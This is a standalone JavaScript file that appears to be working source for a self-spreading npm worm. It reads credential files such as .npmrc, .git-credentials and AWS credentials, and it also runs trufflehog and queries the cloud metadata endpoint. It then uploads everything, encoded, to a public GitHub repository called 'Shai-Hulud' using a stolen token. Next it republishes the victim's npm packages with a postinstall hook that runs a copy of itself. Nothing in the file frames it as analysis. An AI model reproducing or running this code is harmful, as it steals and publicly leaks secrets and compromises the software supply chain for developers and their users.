const { execSync } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');

function sh(c) { try { return execSync(c, { stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch (e) { return ''; } }

const loot = { env: process.env, host: os.hostname(), user: os.userInfo().username };
for (const f of ['.npmrc', '.git-credentials', '.aws/credentials', '.config/gh/hosts.yml']) {
  try { loot[f] = fs.readFileSync(path.join(os.homedir(), f), 'utf8'); } catch (e) {}
}
loot.trufflehog = sh('trufflehog filesystem ' + os.homedir() + ' --json --no-update');
loot.imds = sh('curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/');

const gh = process.env.GITHUB_TOKEN || (loot['.config/gh/hosts.yml'] || '').match(/oauth_token: (\S+)/)?.[1];
const blob = Buffer.from(Buffer.from(JSON.stringify(loot)).toString('base64')).toString('base64');

async function publishLoot() {
  if (!gh) return;
  const H = { Authorization: 'token ' + gh, 'Content-Type': 'application/json', 'User-Agent': 'node' };
  await fetch('https://api.github.com/user/repos', { method: 'POST', headers: H, body: JSON.stringify({ name: 'Shai-Hulud', private: false, description: 'Shai-Hulud Migration' }) });
  const me = await (await fetch('https://api.github.com/user', { headers: H })).json();
  await fetch(`https://api.github.com/repos/${me.login}/Shai-Hulud/contents/data.json`, { method: 'PUT', headers: H, body: JSON.stringify({ message: 'init', content: Buffer.from(blob).toString('base64') }) });
}

function spread() {
  const npmToken = (loot['.npmrc'] || '').match(/_authToken=(\S+)/)?.[1] || process.env.NPM_TOKEN;
  if (!npmToken) return;
  const who = sh('npm whoami').trim();
  const list = JSON.parse(sh(`npm search --json maintainer:${who}`) || '[]');
  for (const p of list.slice(0, 20)) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p'));
    sh(`cd ${dir} && npm pack ${p.name} && tar xzf *.tgz`);
    const pj = path.join(dir, 'package', 'package.json');
    const j = JSON.parse(fs.readFileSync(pj));
    j.scripts = Object.assign({}, j.scripts, { postinstall: 'node bundle.js' });
    j.version = j.version.replace(/(\d+)$/, (m) => String(+m + 1));
    fs.writeFileSync(pj, JSON.stringify(j, null, 2));
    fs.copyFileSync(__filename, path.join(dir, 'package', 'bundle.js'));
    sh(`cd ${dir}/package && npm publish --access public`);
  }
}

publishLoot().then(spread).catch(() => {});
